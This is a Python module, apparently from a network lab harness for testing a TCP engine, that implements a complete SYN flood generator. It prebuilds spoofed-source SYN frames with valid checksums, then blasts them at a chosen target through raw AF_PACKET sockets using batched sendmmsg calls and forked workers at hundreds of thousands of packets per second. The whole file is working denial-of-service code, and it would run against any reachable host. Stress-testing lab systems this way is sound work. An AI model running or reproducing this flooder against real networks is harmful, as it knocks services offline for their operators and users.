"""A SYN flood generator: pre-built spoofed SYN frames sent on a raw AF_PACKET socket.

Scapy crafts a few thousand packets a second; a flood needs hundreds of thousands. So the
frames are built once (a pool of distinct SYNs with random sources from a spoof range,
random ports and ISNs, valid IPv4 and TCP checksums) with `struct`, and then handed to the
kernel in batches with `sendmmsg(2)` (through ctypes), one system call per batch. The rate
is held by comparing the frames sent with `rate x elapsed` on a monotonic clock after every
batch; the run ends by itself at `duration_s` or `max_count` frames, whichever comes first.

Run it inside the attacker's namespace (`Lab.node(...).popen` enters it, so the lab tracks
and reaps the process): `python -m scenarios.flood --iface eth0 --src-mac ... --dst-mac ...
--dst 10.0.5.3 --dport 7 --spoof 10.99.0.0/16 --rate 200000 --duration 3`. It prints
`flooding` once its socket is open and one JSON line of `FloodStats` when it is done.
"""
from __future__ import annotations

import argparse
import ctypes
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Sequence
from dataclasses import asdict, dataclass

from toe_engine.checksum import internet_checksum

ETH_P_IP = 0x0800
SYN_OPTIONS = struct.pack("!BBH", 2, 4, 1460)  # MSS 1460: what a real client's SYN carries
SYN_FRAME_LEN = 14 + 20 + 20 + len(SYN_OPTIONS)  # Ethernet, IPv4, TCP: every frame of the pool
READY_LINE = "flooding"


@dataclass(frozen=True)
class FloodStats:
    """What one flood did: frames handed to the kernel, refusals, and the achieved rate."""

    sent: int
    errors: int
    elapsed_s: float
    workers: int

    @property
    def rate(self) -> float:
        return self.sent / self.elapsed_s if self.elapsed_s > 0 else 0.0


def mac_bytes(mac: str) -> bytes:
    return bytes(int(part, 16) for part in mac.split(":"))


def syn_frame(*, src_mac: bytes, dst_mac: bytes, src: ipaddress.IPv4Address, dst: ipaddress.IPv4Address,
              sport: int, dport: int, isn: int, ip_id: int) -> bytes:
    """One Ethernet/IPv4/TCP SYN with an MSS option and correct IPv4 and TCP checksums."""
    tcp_len = 20 + len(SYN_OPTIONS)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, (tcp_len // 4) << 4, 0x02, 64240, 0, 0) + SYN_OPTIONS
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, tcp_len)
    tcp = tcp[:16] + struct.pack("!H", internet_checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcp_len, ip_id, 0x4000, 64, socket.IPPROTO_TCP, 0,
                     src.packed, dst.packed)
    ip = ip[:10] + struct.pack("!H", internet_checksum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp


def build_syn_pool(count: int, *, src_mac: str, dst_mac: str, dst: str, dport: int,
                   spoof: ipaddress.IPv4Network, rng: random.Random) -> list[bytes]:
    """`count` distinct SYNs from random addresses of `spoof` (network and broadcast excluded)."""
    if spoof.num_addresses < 4:
        raise ValueError(f"spoof range {spoof} is too small")
    smac, dmac, daddr = mac_bytes(src_mac), mac_bytes(dst_mac), ipaddress.IPv4Address(dst)
    base, size = int(spoof.network_address), spoof.num_addresses
    seen: set[tuple[int, int]] = set()
    frames = []
    while len(frames) < count:
        src, sport = base + rng.randrange(1, size - 1), rng.randrange(1024, 65536)
        if (src, sport) in seen:
            continue
        seen.add((src, sport))
        frames.append(syn_frame(src_mac=smac, dst_mac=dmac, src=ipaddress.IPv4Address(src), dst=daddr,
                                sport=sport, dport=dport, isn=rng.getrandbits(32), ip_id=rng.getrandbits(16)))
    return frames


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class _Msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(_Iovec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class _Mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", _Msghdr), ("len", ctypes.c_uint)]


_libc = ctypes.CDLL(None, use_errno=True)
_libc.sendmmsg.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
_libc.sendmmsg.restype = ctypes.c_int


class FramePool:
    """The frames laid out once as a `struct mmsghdr` array, so a batch is one pointer and a count."""

    def __init__(self, frames: Sequence[bytes]) -> None:
        if not frames:
            raise ValueError("a flood needs at least one frame")
        self.size = len(frames)
        self._buffers = [ctypes.create_string_buffer(f, len(f)) for f in frames]
        self._iovecs = (_Iovec * self.size)()
        self._msgs = (_Mmsghdr * self.size)()
        for i, buf in enumerate(self._buffers):
            self._iovecs[i].base, self._iovecs[i].len = ctypes.addressof(buf), len(frames[i])
            self._msgs[i].hdr.iov, self._msgs[i].hdr.iovlen = ctypes.pointer(self._iovecs[i]), 1
        self._base = ctypes.addressof(self._msgs)

    def send(self, fd: int, start: int, count: int) -> int:
        """sendmmsg of frames [start, start + count) (within the pool); frames sent or -errno."""
        done = _libc.sendmmsg(fd, self._base + start * ctypes.sizeof(_Mmsghdr), count, 0)
        return done if done >= 0 else -ctypes.get_errno()


def open_raw_socket(iface: str) -> socket.socket:
    """An AF_PACKET socket bound to `iface` that sends and, with protocol 0, receives nothing."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    sock.bind((iface, 0))
    return sock


def send_paced(sock: socket.socket, pool: FramePool, *, rate: float, duration_s: float, max_count: int,
               batch: int = 64, first: int = 0) -> FloodStats:
    """Send pool frames round-robin at `rate` frames/s (0: as fast as possible) until either bound."""
    fd, sent, errors, index = sock.fileno(), 0, 0, first % pool.size
    start = time.monotonic()
    elapsed = 0.0
    while sent < max_count:
        elapsed = time.monotonic() - start
        if elapsed >= duration_s:
            break
        if rate > 0 and sent >= rate * elapsed + batch:
            time.sleep(min((sent - rate * elapsed) / rate, duration_s - elapsed))
            continue
        count = min(batch, max_count - sent, pool.size - index)
        done = pool.send(fd, index, count)
        if done <= 0:
            errors += 1
            time.sleep(0.0002)  # ENOBUFS: the device queue is full; let it drain
            continue
        sent += done
        index = (index + done) % pool.size
    return FloodStats(sent=sent, errors=errors, elapsed_s=round(max(elapsed, time.monotonic() - start), 6),
                      workers=1)


def flood(iface: str, frames: Sequence[bytes], *, rate: float, duration_s: float, max_count: int,
          workers: int = 1, batch: int = 64, ready: bool = False) -> FloodStats:
    """Send `frames` from `workers` processes (forked after the pool is built), each at rate/workers."""
    pool = FramePool(frames)
    share_count = max(1, max_count // workers)
    share_rate = rate / workers
    pipes: list[tuple[int, int]] = []
    for worker in range(1, workers):
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(read_end)
            with open_raw_socket(iface) as sock:
                stats = send_paced(sock, pool, rate=share_rate, duration_s=duration_s, max_count=share_count,
                                   batch=batch, first=worker * pool.size // workers)
            os.write(write_end, json.dumps(asdict(stats)).encode())
            os._exit(0)
        os.close(write_end)
        pipes.append((pid, read_end))
    with open_raw_socket(iface) as sock:
        if ready:
            print(READY_LINE, flush=True)
        mine = send_paced(sock, pool, rate=share_rate, duration_s=duration_s,
                          max_count=max_count - share_count * (workers - 1), batch=batch)
    results = [mine]
    for pid, read_end in pipes:
        with os.fdopen(read_end, "rb") as reader:
            data = reader.read()
        os.waitpid(pid, 0)
        if data:
            results.append(FloodStats(**json.loads(data)))
    return FloodStats(sent=sum(r.sent for r in results), errors=sum(r.errors for r in results),
                      elapsed_s=max(r.elapsed_s for r in results), workers=workers)


def argv(*, iface: str, src_mac: str, dst_mac: str, dst: str, dport: int, spoof: str, rate: float,
         duration_s: float, max_count: int, pool: int = 4096, seed: int = 1, workers: int = 1) -> list[str]:
    """The command line that runs a flood in a node (`Lab.node(name).popen(argv(...))`)."""
    return [sys.executable, "-m", "scenarios.flood", "--iface", iface, "--src-mac", src_mac, "--dst-mac", dst_mac,
            "--dst", dst, "--dport", str(dport), "--spoof", spoof, "--rate", str(rate), "--duration",
            str(duration_s), "--count", str(max_count), "--pool", str(pool), "--seed", str(seed),
            "--workers", str(workers)]


def parse_result(output: str) -> FloodStats:
    """The FloodStats a flood process printed as its last line."""
    last = output.strip().splitlines()[-1]
    return FloodStats(**json.loads(last))


def main(args: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m scenarios.flood", description=__doc__.splitlines()[0])
    parser.add_argument("--iface", required=True)
    parser.add_argument("--src-mac", required=True)
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--dst", required=True, help="the target's IPv4 address")
    parser.add_argument("--dport", type=int, required=True)
    parser.add_argument("--spoof", required=True, help="IPv4 prefix the spoofed sources are drawn from")
    parser.add_argument("--rate", type=float, default=200_000, help="frames per second (0: unpaced)")
    parser.add_argument("--duration", type=float, default=3.0, help="seconds, at most")
    parser.add_argument("--count", type=int, default=1_000_000, help="frames, at most")
    parser.add_argument("--pool", type=int, default=4096, help="distinct frames built once")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--workers", type=int, default=1, help="sending processes")
    parser.add_argument("--batch", type=int, default=64, help="frames per sendmmsg call")
    ns = parser.parse_args(args)
    frames = build_syn_pool(ns.pool, src_mac=ns.src_mac, dst_mac=ns.dst_mac, dst=ns.dst, dport=ns.dport,
                            spoof=ipaddress.IPv4Network(ns.spoof), rng=random.Random(ns.seed))
    stats = flood(ns.iface, frames, rate=ns.rate, duration_s=ns.duration, max_count=ns.count,
                  workers=max(1, ns.workers), batch=ns.batch, ready=True)
    print(json.dumps(asdict(stats)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
